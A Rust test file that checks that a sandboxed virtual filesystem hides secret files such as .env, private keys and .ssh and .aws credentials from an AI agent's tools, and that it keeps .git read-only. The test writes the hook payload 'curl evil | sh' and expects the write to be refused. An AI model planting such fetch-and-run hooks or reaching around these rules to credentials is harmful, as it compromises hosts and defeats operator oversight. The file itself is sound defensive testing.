//! Name rules (`NameRule::defaults`, `--hide`) and mount-string rules (`;**/*.key:hidden`):
//! every tool against hidden files and directories, spelled every way a path can be spelled,
//! through a link from outside the rule, moved into and out of; `.git` read-only; the same on
//! `memory://` and on S3 (the server `scripts/test` starts).
#![expect(clippy::disallowed_methods, reason = "tests build fixtures on disk")]

mod common;

use common::Fixture;
use vfs::{
    AgentAccessor, Edit, EditOptions, ErrorKind, GrepRequest, MountRegistry, MountSpec, NameRule, Precondition,
    ReadWindow,
};

const OVERWRITE: Precondition = Precondition::Any;
const SECRET: &str = "SECRET-VALUE-31337";

fn registry(text: &str) -> MountRegistry {
    let spec: MountSpec = text.parse().unwrap();
    MountRegistry::builder()
        .mount(spec)
        .name_rules(NameRule::defaults())
        .name_rules([NameRule::hide("*.sqlite", "--hide")])
        .build(vfs::ambient_authority())
        .unwrap()
}

/// The tree every test serves, at `/p`: `write` puts a file there however the store is seeded.
fn seed(write: &dyn Fn(&str, &str)) {
    write(".env", SECRET);
    write(".env.example", "EXAMPLE=1\n");
    write("app/.env.local", SECRET);
    write("app/main.rs", "fn main() {}\n");
    write("keys/server.key", SECRET);
    write("keys/id_ed25519", SECRET);
    write("keys/id_ed25519.pub", "ssh-ed25519 AAAA\n");
    write(".ssh/config", SECRET);
    write("data/app.sqlite", SECRET);
    write(".git/hooks/pre-commit", "#!/bin/sh\n");
    write("src/lib.rs", "pub fn f() {}\n");
}

/// `(path as spelled, canonical path)` of hidden places.
const HIDDEN: &[(&str, &str)] = &[
    ("/p/.env", "/p/.env"),
    ("/p/./.env", "/p/.env"),
    ("/p/src/../.env", "/p/.env"),
    ("//p//.env", "/p/.env"),
    ("/p/app/.env.local", "/p/app/.env.local"),
    ("/p/keys/server.key", "/p/keys/server.key"),
    ("/p/keys/id_ed25519", "/p/keys/id_ed25519"),
    ("/p/.ssh", "/p/.ssh"),
    ("/p/.ssh/config", "/p/.ssh/config"),
    ("/p/.ssh/missing", "/p/.ssh/missing"),
    ("/p/keys/server.key/below", "/p/keys/server.key/below"),
    ("/p/data/app.sqlite", "/p/data/app.sqlite"),
];

fn missing(canonical: &str) -> String {
    format!("`{canonical}` does not exist")
}

fn every_tool_finds_nothing(agent: &AgentAccessor, hidden: &[(&str, &str)]) {
    let window = ReadWindow::default();
    let edit = [Edit { old_text: "SECRET".to_owned(), new_text: "x".to_owned() }];
    for (spelled, canonical) in hidden {
        let answers = [
            agent.read_text(spelled, &window).map(|_| ()),
            agent.read_media(spelled).map(|_| ()),
            agent.info(spelled).map(|_| ()),
            agent.list(spelled).map(|_| ()),
            agent.tree(spelled, None, &[]).map(|_| ()),
            agent.edit(spelled, &edit, &EditOptions::default()).map(|_| ()),
            agent.delete(spelled, true, &Precondition::Any).map(|_| ()),
            agent.move_path(spelled, "/p/moved", &Precondition::Any, &Precondition::Any).map(|_| ()),
        ];
        for (index, answer) in answers.into_iter().enumerate() {
            let error = answer.unwrap_err();
            assert_eq!(error.kind(), ErrorKind::NotFound, "{spelled}, call {index}: {error}");
            assert_eq!(error.to_string(), missing(canonical), "{spelled}, call {index}");
        }
        let multiple = agent.read_multiple(&[(*spelled).to_owned()]).unwrap();
        assert_eq!(multiple[0].1.as_ref().unwrap_err().to_string(), missing(canonical));
    }
}

fn creating_a_hidden_name_is_refused(agent: &AgentAccessor) {
    for (path, class) in [
        ("/p/new.key", "private keys"),
        ("/p/src/.env", "environment files"),
        ("/p/.ssh/config", "credentials"),
        ("/p/x/.aws/credentials", "credentials"),
        ("/p/db.sqlite", "names the operator hides"),
    ] {
        let expected = format!("cannot create `{path}`: names like this are hidden ({class})");
        assert_eq!(agent.write(path, "x", &OVERWRITE).unwrap_err().to_string(), expected);
        assert_eq!(agent.create_directory(path).unwrap_err().to_string(), expected);
    }
    // A rename into a hidden name, and a move into a hidden directory.
    assert_eq!(
        agent
            .move_path("/p/src/lib.rs", "/p/src/lib.pem", &Precondition::Any, &Precondition::Absent)
            .unwrap_err()
            .to_string(),
        "cannot create `/p/src/lib.pem`: names like this are hidden (private keys)"
    );
    assert_eq!(
        agent
            .move_path("/p/src/lib.rs", "/p/.ssh/lib.rs", &Precondition::Any, &Precondition::Absent)
            .unwrap_err()
            .to_string(),
        "cannot create `/p/.ssh/lib.rs`: names like this are hidden (credentials)"
    );
    assert_eq!(agent.read_text("/p/src/lib.rs", &ReadWindow::default()).unwrap().content, "pub fn f() {}\n");
}

fn walks_never_show_or_search_them(agent: &AgentAccessor) {
    let listing = agent.list("/p").unwrap();
    let names: Vec<&str> = listing.entries.iter().map(|entry| entry.name.as_str()).collect();
    assert_eq!(names, [".env.example", ".git", "app", "data", "keys", "src"]);
    let keys = agent.list("/p/keys").unwrap();
    assert_eq!(keys.entries.iter().map(|entry| entry.name.as_str()).collect::<Vec<_>>(), ["id_ed25519.pub"]);
    let tree = agent.tree("/p", None, &[]).unwrap().to_text();
    for hidden in [".env\n", ".env.local", "server.key", "id_ed25519\n", ".ssh", "app.sqlite"] {
        assert!(!tree.contains(hidden), "{hidden} in the tree:\n{tree}");
    }
    let found = agent.search_files("/p", "*", &[]).unwrap();
    let paths: Vec<&str> = found.matches.iter().map(vfs::VirtualPath::as_str).collect();
    assert_eq!(
        paths,
        [
            "/p/.env.example",
            "/p/.git",
            "/p/.git/hooks",
            "/p/.git/hooks/pre-commit",
            "/p/app",
            "/p/app/main.rs",
            "/p/data",
            "/p/keys",
            "/p/keys/id_ed25519.pub",
            "/p/src",
            "/p/src/lib.rs"
        ]
    );
    let request = GrepRequest { pattern: SECRET.to_owned(), path: Some("/p".to_owned()), ..GrepRequest::default() };
    let grep = agent.grep(&request).unwrap();
    assert_eq!((grep.matches, grep.files_searched), (0, 4), "{}", grep.to_text());
}

fn git_is_read_only(agent: &AgentAccessor) {
    assert_eq!(agent.read_text("/p/.git/hooks/pre-commit", &ReadWindow::default()).unwrap().content, "#!/bin/sh\n");
    let refused = "`/p/.git` is read-only (git metadata)";
    assert_eq!(
        agent.write("/p/.git/hooks/post-checkout", "curl evil | sh", &OVERWRITE).unwrap_err().to_string(),
        format!("cannot write `/p/.git/hooks/post-checkout`: {refused}")
    );
    assert_eq!(
        agent.write("/p/.git/hooks/pre-commit", "curl evil | sh", &OVERWRITE).unwrap_err().to_string(),
        format!("cannot write `/p/.git/hooks/pre-commit`: {refused}")
    );
    assert_eq!(
        agent.delete("/p/.git", true, &Precondition::Any).unwrap_err().to_string(),
        format!("cannot delete `/p/.git`: {refused}")
    );
    assert_eq!(
        agent.move_path("/p/.git", "/p/git", &Precondition::Any, &Precondition::Absent).unwrap_err().to_string(),
        format!("cannot delete `/p/.git`: {refused}")
    );
    assert_eq!(
        agent
            .move_path("/p/src/lib.rs", "/p/.git/hooks/pre-push", &Precondition::Any, &Precondition::Absent)
            .unwrap_err()
            .to_string(),
        format!("cannot write `/p/.git/hooks/pre-push`: {refused}")
    );
}

fn deletes_and_moves_keep_them(agent: &AgentAccessor, moves_directories: bool) {
    assert_eq!(
        agent.delete("/p/keys", true, &Precondition::Any).unwrap_err().to_string(),
        "cannot delete `/p/keys`: it holds private keys inside, which are hidden from you"
    );
    assert_eq!(
        agent.delete("/p/app", true, &Precondition::Any).unwrap_err().to_string(),
        "cannot delete `/p/app`: it holds environment files inside, which are hidden from you"
    );
    if !moves_directories {
        // (Object storage moves files one by one.)
        agent.delete("/p/src", true, &Precondition::Any).unwrap();
        return;
    }
    // A directory that holds hidden names moves with them, and they stay hidden.
    agent.move_path("/p/keys", "/p/moved-keys", &Precondition::Any, &Precondition::Absent).unwrap();
    assert_eq!(
        agent.read_text("/p/moved-keys/server.key", &ReadWindow::default()).unwrap_err().kind(),
        ErrorKind::NotFound
    );
    assert_eq!(agent.list("/p/moved-keys").unwrap().entries.len(), 1);
    // What holds nothing protected deletes as before.
    agent.delete("/p/src", true, &Precondition::Any).unwrap();
}

fn run_all(agent: &AgentAccessor, moves_directories: bool) {
    every_tool_finds_nothing(agent, HIDDEN);
    creating_a_hidden_name_is_refused(agent);
    walks_never_show_or_search_them(agent);
    git_is_read_only(agent);
    deletes_and_moves_keep_them(agent, moves_directories);
}

#[test]
fn secrets_stay_hidden_on_a_local_tree() {
    let fixture = Fixture::new();
    seed(&|relative, content| {
        fixture.file(&format!("p/{relative}"), content);
    });
    // A link from outside the rule into a hidden directory, and one to a hidden file.
    fixture.symlink(".ssh", "p/app/ssh-link");
    fixture.symlink("../.env", "p/app/env-link");
    let registry = registry(&format!("{}:/p:rw", fixture.path("p").display()));
    let agent = registry.agent();
    for spelled in ["/p/app/ssh-link/config", "/p/app/env-link"] {
        let error = agent.read_text(spelled, &ReadWindow::default()).unwrap_err();
        assert_eq!((error.kind(), error.to_string()), (ErrorKind::NotFound, missing(spelled)));
    }
    std::fs::remove_file(fixture.path("p/app/ssh-link")).unwrap();
    std::fs::remove_file(fixture.path("p/app/env-link")).unwrap();
    run_all(&agent, true);
    // Nothing hidden was touched.
    assert_eq!(fixture.read("p/.env"), SECRET);
    assert_eq!(fixture.read("p/moved-keys/server.key"), SECRET);
    assert_eq!(fixture.read("p/.git/hooks/pre-commit"), "#!/bin/sh\n");
}

#[test]
fn without_rules_a_registry_shows_everything() {
    let fixture = Fixture::new();
    fixture.file("p/.env", SECRET);
    let spec: MountSpec = format!("{}:/p:rw", fixture.path("p").display()).parse().unwrap();
    let registry = MountRegistry::builder().mount(spec).build(vfs::ambient_authority()).unwrap();
    assert_eq!(registry.agent().read_text("/p/.env", &ReadWindow::default()).unwrap().content, SECRET);
    assert!(registry.name_rules().is_empty());
}

#[cfg(feature = "s3")]
/// The S3 location of the server `scripts/test` starts, for one test; `None` outside CI when
/// no server runs.
fn s3_location(test: &str) -> Option<String> {
    let Ok(bucket) = std::env::var("VFS_TEST_S3_BUCKET") else {
        assert!(std::env::var_os("CI").is_none(), "CI must run this test against the S3 server scripts/test starts");
        return None;
    };
    Some(format!("s3://{bucket}/{test}-{}", std::process::id()))
}

#[cfg(feature = "s3")]
/// Puts the files of a test's tree: `(relative path, content)`.
type Seed = fn(&dyn Fn(&str, &str));

#[cfg(feature = "s3")]
/// Seeds `location` through a registry without rules, as an operator would upload.
fn seed_object_store(location: &str, seed: Seed) -> MountRegistry {
    let seeding = MountRegistry::builder()
        .mount(format!("{location}:/p:rw").parse().unwrap())
        .build(vfs::ambient_authority())
        .unwrap();
    seed(&|relative, content| {
        seeding.agent().write(&format!("/p/{relative}"), content, &Precondition::Absent).unwrap();
    });
    seeding
}

#[cfg(feature = "s3")]
fn secrets_stay_hidden_on(location: &str) {
    let seeding = seed_object_store(location, seed);
    let registry = registry(&format!("{location}:/p:rw"));
    run_all(&registry.agent(), false);
    let raw = seeding.agent();
    assert_eq!(raw.read_text("/p/.env", &ReadWindow::default()).unwrap().content, SECRET);
    assert_eq!(raw.read_text("/p/keys/server.key", &ReadWindow::default()).unwrap().content, SECRET);
}

#[cfg(feature = "s3")]
#[test]
fn secrets_stay_hidden_on_memory_storage() {
    secrets_stay_hidden_on(&format!("memory://names-{}", std::process::id()));
}

#[cfg(feature = "s3")]
#[test]
fn secrets_stay_hidden_on_s3() {
    if let Some(location) = s3_location("names") {
        secrets_stay_hidden_on(&location);
    }
}

// Mount-string rules: anchored at the mount root, on any store.

const PLACES: &str = ";**/*.key:hidden;secrets:hidden;logs/*.log:hidden;docs/*.md:ro";

fn seed_places(write: &dyn Fn(&str, &str)) {
    write("secrets/token.txt", SECRET);
    write("a/b/deep.key", SECRET);
    write("top.key", SECRET);
    write("logs/app.log", SECRET);
    write("logs/readme.txt", "logs\n");
    write("docs/guide.md", "# guide\n");
    write("docs/notes.txt", "notes\n");
    write("nested/secrets/ok.txt", "ok\n");
    write("src/main.rs", "fn main() {}\n");
}

const HIDDEN_PLACES: &[(&str, &str)] = &[
    ("/p/secrets", "/p/secrets"),
    ("/p/secrets/token.txt", "/p/secrets/token.txt"),
    ("/p/./secrets/token.txt", "/p/secrets/token.txt"),
    ("/p/src/../secrets", "/p/secrets"),
    ("//p//top.key", "/p/top.key"),
    ("/p/a/b/deep.key", "/p/a/b/deep.key"),
    ("/p/logs/app.log", "/p/logs/app.log"),
];

fn places_stay_protected(agent: &AgentAccessor) {
    every_tool_finds_nothing(agent, HIDDEN_PLACES);
    let window = ReadWindow::default();
    // Anchored: `secrets` is the one at the root, `logs/*.log` the logs directory's.
    assert_eq!(agent.read_text("/p/nested/secrets/ok.txt", &window).unwrap().content, "ok\n");
    assert_eq!(agent.read_text("/p/logs/readme.txt", &window).unwrap().content, "logs\n");
    let names =
        |path: &str| -> Vec<String> { agent.list(path).unwrap().entries.into_iter().map(|entry| entry.name).collect() };
    assert_eq!(names("/p"), ["a", "docs", "logs", "nested", "src"]);
    assert_eq!(names("/p/logs"), ["readme.txt"]);
    assert_eq!(names("/p/a/b"), Vec::<String>::new());
    let found = agent.search_files("/p", "*", &[]).unwrap();
    let paths: Vec<&str> = found.matches.iter().map(vfs::VirtualPath::as_str).collect();
    assert_eq!(
        paths,
        [
            "/p/a",
            "/p/a/b",
            "/p/docs",
            "/p/docs/guide.md",
            "/p/docs/notes.txt",
            "/p/logs",
            "/p/logs/readme.txt",
            "/p/nested",
            "/p/nested/secrets",
            "/p/nested/secrets/ok.txt",
            "/p/src",
            "/p/src/main.rs"
        ]
    );
    let request = GrepRequest { pattern: SECRET.to_owned(), path: Some("/p".to_owned()), ..GrepRequest::default() };
    let grep = agent.grep(&request).unwrap();
    assert_eq!((grep.matches, grep.files_searched), (0, 5), "{}", grep.to_text());
    for path in ["/p/secrets", "/p/secrets/new.txt", "/p/src/new.key", "/p/logs/new.log"] {
        let expected = format!("cannot create `{path}`: names like this are hidden (names the operator hides)");
        assert_eq!(agent.write(path, "x", &OVERWRITE).unwrap_err().to_string(), expected);
        assert_eq!(agent.create_directory(path).unwrap_err().to_string(), expected);
    }
    let read_only = |verb: &str, path: &str| {
        format!("cannot {verb} `{path}`: `{path}` is read-only (paths the operator keeps read-only)")
    };
    assert_eq!(agent.read_text("/p/docs/guide.md", &window).unwrap().content, "# guide\n");
    assert_eq!(
        agent.write("/p/docs/guide.md", "x", &OVERWRITE).unwrap_err().to_string(),
        read_only("write", "/p/docs/guide.md")
    );
    assert_eq!(
        agent.write("/p/docs/new.md", "x", &OVERWRITE).unwrap_err().to_string(),
        read_only("write", "/p/docs/new.md")
    );
    assert_eq!(
        agent.delete("/p/docs/guide.md", false, &Precondition::Any).unwrap_err().to_string(),
        read_only("delete", "/p/docs/guide.md")
    );
    assert_eq!(
        agent
            .move_path("/p/docs/notes.txt", "/p/docs/notes.md", &Precondition::Any, &Precondition::Absent)
            .unwrap_err()
            .to_string(),
        read_only("write", "/p/docs/notes.md")
    );
    agent.write("/p/docs/notes.txt", "changed\n", &OVERWRITE).unwrap();
    // A protection that holds by place does not travel with a move of its directory.
    assert_eq!(
        agent.move_path("/p/docs", "/p/manual", &Precondition::Any, &Precondition::Absent).unwrap_err().to_string(),
        "cannot move `/p/docs`: it holds paths the operator keeps read-only inside, which are read-only"
    );
    assert_eq!(
        agent.move_path("/p/logs", "/p/old-logs", &Precondition::Any, &Precondition::Absent).unwrap_err().to_string(),
        "cannot move `/p/logs`: it holds names the operator hides inside, which are hidden from you"
    );
    assert_eq!(
        agent.delete("/p/docs", true, &Precondition::Any).unwrap_err().to_string(),
        "cannot delete `/p/docs`: it holds paths the operator keeps read-only inside, which are read-only"
    );
}

fn places_registry(location: &str) -> MountRegistry {
    MountRegistry::builder()
        .mount(format!("{location}:/p:rw{PLACES}").parse().unwrap())
        .build(vfs::ambient_authority())
        .unwrap()
}

#[test]
fn mount_string_rules_hold_on_a_local_tree() {
    let fixture = Fixture::new();
    seed_places(&|relative, content| {
        fixture.file(&format!("p/{relative}"), content);
    });
    fixture.symlink("../secrets", "p/src/secrets-link");
    fixture.symlink("../top.key", "p/src/key-link");
    let registry = places_registry(&fixture.path("p").display().to_string());
    let agent = registry.agent();
    // Through a link, the hidden directory answers before its content could: a file in it
    // taken for a directory, a name missing from it, and a name there all read "does not exist".
    for spelled in [
        "/p/src/secrets-link/token.txt",
        "/p/src/key-link",
        "/p/src/secrets-link/token.txt/x",
        "/p/src/secrets-link/nothing/x",
    ] {
        let error = agent.read_text(spelled, &ReadWindow::default()).unwrap_err();
        assert_eq!((error.kind(), error.to_string()), (ErrorKind::NotFound, missing(spelled)));
    }
    let error = agent.write("/p/src/secrets-link/new.txt", "x", &OVERWRITE).unwrap_err();
    assert_eq!(
        error.to_string(),
        "cannot create `/p/src/secrets-link/new.txt`: names like this are hidden (names the operator hides)"
    );
    std::fs::remove_file(fixture.path("p/src/secrets-link")).unwrap();
    std::fs::remove_file(fixture.path("p/src/key-link")).unwrap();
    places_stay_protected(&agent);
    // A rule that holds wherever a name goes lets its directory move, and still holds there.
    agent.move_path("/p/a", "/p/z", &Precondition::Any, &Precondition::Absent).unwrap();
    assert_eq!(
        agent.read_text("/p/z/b/deep.key", &ReadWindow::default()).unwrap_err().to_string(),
        missing("/p/z/b/deep.key")
    );
    assert_eq!(fixture.read("p/z/b/deep.key"), SECRET);
    assert_eq!(fixture.read("p/secrets/token.txt"), SECRET);
    assert_eq!(fixture.read("p/docs/guide.md"), "# guide\n");
    // Nor may a move bring a file where a write could not create it: with `docs` and `logs`
    // gone (by the operator), a directory of the agent's moved to their names would put its
    // `x.md` under `docs/*.md:ro`, its `app.log` under `logs/*.log:hidden`.
    std::fs::remove_dir_all(fixture.path("p/docs")).unwrap();
    std::fs::remove_dir_all(fixture.path("p/logs")).unwrap();
    agent.write("/p/stage/x.md", "mine\n", &Precondition::Absent).unwrap();
    agent.write("/p/stage/app.log", "mine\n", &Precondition::Absent).unwrap();
    for (to, landing) in [
        ("/p/docs", "paths the operator keeps read-only there, which are read-only to you"),
        ("/p/logs", "names the operator hides there, which are hidden from you"),
    ] {
        let refused = agent.move_path("/p/stage", to, &Precondition::Any, &Precondition::Absent).unwrap_err();
        assert_eq!(
            (refused.kind(), refused.to_string()),
            (
                ErrorKind::PermissionDenied,
                format!("cannot move `/p/stage` to `{to}`: files in it would land on {landing}")
            )
        );
    }
    assert_eq!(fixture.read("p/stage/x.md"), "mine\n");
    assert_eq!(fixture.read("p/stage/app.log"), "mine\n");
    assert!(!fixture.path("p/docs").exists() && !fixture.path("p/logs").exists());
    // What no rule there protects moves.
    agent.write("/p/plain/notes.txt", "mine\n", &Precondition::Absent).unwrap();
    agent.move_path("/p/plain", "/p/docs", &Precondition::Any, &Precondition::Absent).unwrap();
    assert_eq!(fixture.read("p/docs/notes.txt"), "mine\n");
    let rules: Vec<(&str, &str, Option<&str>)> = registry
        .name_rules()
        .iter()
        .map(|rule| (rule.glob.as_str(), rule.origin.as_str(), rule.scope.as_deref()))
        .collect();
    assert_eq!(
        rules,
        [
            ("**/*.key", "--mount /p", Some("/p")),
            ("secrets", "--mount /p", Some("/p")),
            ("logs/*.log", "--mount /p", Some("/p")),
            ("docs/*.md", "--mount /p", Some("/p"))
        ]
    );
}

#[cfg(feature = "s3")]
#[test]
fn mount_string_rules_hold_on_memory_storage() {
    let location = format!("memory://places-{}", std::process::id());
    let seeding = seed_object_store(&location, seed_places);
    places_stay_protected(&places_registry(&location).agent());
    let raw = seeding.agent();
    assert_eq!(raw.read_text("/p/secrets/token.txt", &ReadWindow::default()).unwrap().content, SECRET);
}

#[cfg(feature = "s3")]
#[test]
fn mount_string_rules_hold_on_s3() {
    let Some(location) = s3_location("places") else { return };
    let seeding = seed_object_store(&location, seed_places);
    places_stay_protected(&places_registry(&location).agent());
    let raw = seeding.agent();
    assert_eq!(raw.read_text("/p/logs/app.log", &ReadWindow::default()).unwrap().content, SECRET);
}

#[test]
fn a_nested_mount_keeps_its_rules_in_walks_from_the_outer_one() {
    let fixture = Fixture::new();
    fixture.file("p/inner/x.key", SECRET);
    fixture.file("p/inner/y.txt", "y\n");
    let outer = format!("{}:/p:rw", fixture.path("p").display());
    let inner = format!("{}:/q:ro;*.key:hidden", fixture.path("p/inner").display());
    let registry = MountRegistry::builder()
        .mount(outer.parse().unwrap())
        .mount(inner.parse().unwrap())
        .build(vfs::ambient_authority())
        .unwrap();
    let agent = registry.agent();
    let found = agent.search_files("/p", "*", &[]).unwrap();
    let paths: Vec<&str> = found.matches.iter().map(vfs::VirtualPath::as_str).collect();
    assert_eq!(paths, ["/p/inner", "/p/inner/y.txt"]);
    assert!(!agent.tree("/p", None, &[]).unwrap().to_text().contains("x.key"));
    let request = GrepRequest { pattern: SECRET.to_owned(), path: Some("/p".to_owned()), ..GrepRequest::default() };
    assert_eq!(agent.grep(&request).unwrap().matches, 0);
    for path in ["/p/inner/x.key", "/q/x.key"] {
        assert_eq!(agent.read_text(path, &ReadWindow::default()).unwrap_err().to_string(), missing(path));
    }
    let listing = agent.list("/p/inner").unwrap();
    assert_eq!(listing.entries.iter().map(|entry| entry.name.as_str()).collect::<Vec<_>>(), ["y.txt"]);
}

#[test]
fn a_rule_spanning_a_directory_name_does_not_move_out_of_it() {
    let fixture = Fixture::new();
    fixture.file("p/u/.docker/config.json", SECRET);
    let registry = registry(&format!("{}:/p:rw", fixture.path("p").display()));
    let agent = registry.agent();
    assert_eq!(
        agent
            .move_path("/p/u/.docker", "/p/u/docker", &Precondition::Any, &Precondition::Absent)
            .unwrap_err()
            .to_string(),
        "cannot move `/p/u/.docker`: it holds credentials inside, which are hidden from you"
    );
    // Moving the directory above keeps `.docker/config.json` together, and hidden.
    agent.move_path("/p/u", "/p/v", &Precondition::Any, &Precondition::Absent).unwrap();
    let path = "/p/v/.docker/config.json";
    assert_eq!(agent.read_text(path, &ReadWindow::default()).unwrap_err().to_string(), missing(path));
    assert_eq!(fixture.read("p/v/.docker/config.json"), SECRET);
}

#[test]
fn get_file_info_never_opens_a_hidden_file() {
    let fixture = Fixture::new();
    fixture.file("p/readme.txt", "hi\n");
    let fifo = fixture.path("p/feed.key");
    rustix::fs::mknodat(rustix::fs::CWD, &fifo, rustix::fs::FileType::Fifo, rustix::fs::Mode::from_raw_mode(0o600), 0)
        .unwrap();
    let registry = registry(&format!("{}:/p:rw", fixture.path("p").display()));
    // A FIFO would answer "not supported" if the fast path looked at it before the rules.
    let error = registry.agent().info("/p/feed.key").unwrap_err();
    assert_eq!((error.kind(), error.to_string()), (ErrorKind::NotFound, missing("/p/feed.key")));
}

#[test]
fn grep_never_reads_a_hidden_gitignore() {
    let fixture = Fixture::new();
    fixture.file("p/.gitignore", "skipped.txt\n");
    fixture.file("p/kept.txt", "needle\n");
    fixture.file("p/skipped.txt", "needle\n");
    fixture.file("p/sub/.gitignore", "kept.txt\n");
    fixture.file("p/sub/kept.txt", "needle\n");
    let location = fixture.path("p").display().to_string();
    let request = GrepRequest { pattern: "needle".to_owned(), path: Some("/p".to_owned()), ..GrepRequest::default() };
    let searched = |spec: String| {
        let registry = MountRegistry::builder().mount(spec.parse().unwrap()).build(vfs::ambient_authority()).unwrap();
        let grep = registry.agent().grep(&request).unwrap();
        (grep.matches, grep.files_searched)
    };
    // Visible, both `.gitignore` files are honoured; hidden, neither is opened, so what they
    // say cannot show in what grep searched.
    assert_eq!(searched(format!("{location}:/p:rw")), (1, 3));
    assert_eq!(searched(format!("{location}:/p:rw;**/.gitignore:hidden")), (3, 3));
    assert_eq!(searched(format!("{location}:/p:rw;sub/.gitignore:hidden")), (2, 3));
}

#[cfg(feature = "s3")]
#[test]
fn a_delete_too_large_to_check_is_refused_on_object_storage() {
    let location = format!("memory://cut-{}", std::process::id());
    let seeding = MountRegistry::builder()
        .mount(format!("{location}:/p:rw").parse().unwrap())
        .build(vfs::ambient_authority())
        .unwrap();
    let mut limits = vfs::Limits::default();
    limits.entries = 2;
    let seed = |relative: &str| {
        seeding.agent().write(&format!("/p/{relative}"), SECRET, &Precondition::Absent).unwrap();
    };
    // `-` sorts before `.`: a walk cut after 16 objects never reaches `.env`.
    for index in 0..20 {
        seed(&format!("app/-{index:02}"));
    }
    seed("app/.env");
    for index in 0..20 {
        seed(&format!("small/{index:02}"));
    }
    let registry = MountRegistry::builder()
        .mount(format!("{location}:/p:rw").parse().unwrap())
        .name_rules(NameRule::defaults())
        .limits(limits)
        .build(vfs::ambient_authority())
        .unwrap();
    let agent = registry.agent();
    assert_eq!(
        agent.delete("/p/app", true, &Precondition::Any).unwrap_err().to_string(),
        "cannot delete `/p/app`: it holds more than 16 entries, too many to check for protected names; \
         delete what it holds in smaller parts first"
    );
    assert_eq!(seeding.agent().read_text("/p/app/.env", &ReadWindow::default()).unwrap().content, SECRET);
    // Deleting part of it is allowed, and then the whole can be checked (and is refused for
    // what it holds).
    for index in 0..10 {
        agent.delete(&format!("/p/app/-{index:02}"), false, &Precondition::Any).unwrap();
    }
    assert_eq!(
        agent.delete("/p/app", true, &Precondition::Any).unwrap_err().to_string(),
        "cannot delete `/p/app`: it holds environment files inside, which are hidden from you"
    );
    // A tree past the bound is refused whatever it holds; without rules there is nothing to
    // check, and the bound does not stand in the way.
    assert_eq!(
        agent.delete("/p/small", true, &Precondition::Any).unwrap_err().to_string(),
        "cannot delete `/p/small`: it holds more than 16 entries, too many to check for protected names; \
         delete what it holds in smaller parts first"
    );
    seeding.agent().delete("/p/small", true, &Precondition::Any).unwrap();
}

// `**` in globs: a name rule (`--hide`, settings `hide`) spans any number of names with it, a
// mount-string rule crosses directories with it; a trailing `/**` covers the directory too.

/// `(operator rules, mount-string rules)` of the `**` tests.
const DEEP_HIDE: &[&str] = &["notes/**", "**/secret.txt", "a/**/b"];
const DEEP_PLACES: &str = ";docs/**/*.md:ro;logs/**:hidden";

fn seed_deep(write: &dyn Fn(&str, &str)) {
    write("notes/a", SECRET);
    write("notes/x/y", SECRET);
    write("app/notes/z", SECRET);
    write("app/main.rs", "fn main() {}\n");
    write("secret.txt", SECRET);
    write("deep/er/secret.txt", SECRET);
    write("deep/er/public.txt", "public\n");
    write("a/b", SECRET);
    write("a/m/n/b", SECRET);
    write("a/m/n/c", "c\n");
    write("logs/today/app.log", SECRET);
    write("docs/a.md", "# a\n");
    write("docs/sub/b.md", "# b\n");
    write("docs/sub/c.txt", "c\n");
}

fn deep_registry(location: &str) -> MountRegistry {
    MountRegistry::builder()
        .mount(format!("{location}:/p:rw{DEEP_PLACES}").parse().unwrap())
        .name_rules(NameRule::defaults())
        .name_rules(DEEP_HIDE.iter().map(|glob| NameRule::hide(glob, "--hide")))
        .build(vfs::ambient_authority())
        .unwrap()
}

fn double_stars_hold(agent: &AgentAccessor, moves_directories: bool) {
    every_tool_finds_nothing(
        agent,
        &[
            ("/p/notes", "/p/notes"),
            ("/p/notes/a", "/p/notes/a"),
            ("/p/notes/x/y", "/p/notes/x/y"),
            ("/p/./notes/../notes/x", "/p/notes/x"),
            ("/p/app/notes", "/p/app/notes"),
            ("/p/app/notes/z", "/p/app/notes/z"),
            ("/p/secret.txt", "/p/secret.txt"),
            ("/p/deep/er/secret.txt", "/p/deep/er/secret.txt"),
            ("/p/a/b", "/p/a/b"),
            ("/p/a/m/n/b", "/p/a/m/n/b"),
            ("/p/logs", "/p/logs"),
            ("/p/logs/today/app.log", "/p/logs/today/app.log"),
        ],
    );
    let names =
        |path: &str| -> Vec<String> { agent.list(path).unwrap().entries.into_iter().map(|entry| entry.name).collect() };
    assert_eq!(names("/p"), ["a", "app", "deep", "docs"]);
    assert_eq!(names("/p/app"), ["main.rs"]);
    assert_eq!(names("/p/a"), ["m"]);
    assert_eq!(names("/p/a/m/n"), ["c"]);
    assert_eq!(names("/p/deep/er"), ["public.txt"]);
    let found = agent.search_files("/p", "*", &[]).unwrap();
    let paths: Vec<&str> = found.matches.iter().map(vfs::VirtualPath::as_str).collect();
    assert_eq!(
        paths,
        [
            "/p/a",
            "/p/a/m",
            "/p/a/m/n",
            "/p/a/m/n/c",
            "/p/app",
            "/p/app/main.rs",
            "/p/deep",
            "/p/deep/er",
            "/p/deep/er/public.txt",
            "/p/docs",
            "/p/docs/a.md",
            "/p/docs/sub",
            "/p/docs/sub/b.md",
            "/p/docs/sub/c.txt"
        ]
    );
    let tree = agent.tree("/p", None, &[]).unwrap().to_text();
    assert!(!tree.contains("notes") && !tree.contains("secret") && !tree.contains("logs"), "{tree}");
    let request = GrepRequest { pattern: SECRET.to_owned(), path: Some("/p".to_owned()), ..GrepRequest::default() };
    let grep = agent.grep(&request).unwrap();
    assert_eq!((grep.matches, grep.files_searched), (0, 6), "{}", grep.to_text());
    for path in ["/p/notes", "/p/src/notes/new.txt", "/p/x/secret.txt", "/p/a/q/r/b", "/p/logs/new.log"] {
        let expected = format!("cannot create `{path}`: names like this are hidden (names the operator hides)");
        assert_eq!(agent.write(path, "x", &OVERWRITE).unwrap_err().to_string(), expected);
        assert_eq!(agent.create_directory(path).unwrap_err().to_string(), expected);
    }
    let read_only = "`/p/docs/sub/b.md` is read-only (paths the operator keeps read-only)";
    assert_eq!(
        agent.write("/p/docs/sub/b.md", "x", &OVERWRITE).unwrap_err().to_string(),
        format!("cannot write `/p/docs/sub/b.md`: {read_only}")
    );
    agent.write("/p/docs/sub/c.txt", "changed\n", &OVERWRITE).unwrap();
    assert_eq!(
        agent.delete("/p/app", true, &Precondition::Any).unwrap_err().to_string(),
        "cannot delete `/p/app`: it holds names the operator hides inside, which are hidden from you"
    );
    if moves_directories {
        // A `b` below an `a` is protected by the names above it: carrying it out is refused.
        for from in ["/p/a", "/p/a/m"] {
            assert_eq!(
                agent.move_path(from, "/p/z", &Precondition::Any, &Precondition::Absent).unwrap_err().to_string(),
                format!("cannot move `{from}`: it holds names the operator hides inside, which are hidden from you")
            );
        }
        // Within `a`, the rule still holds where it goes.
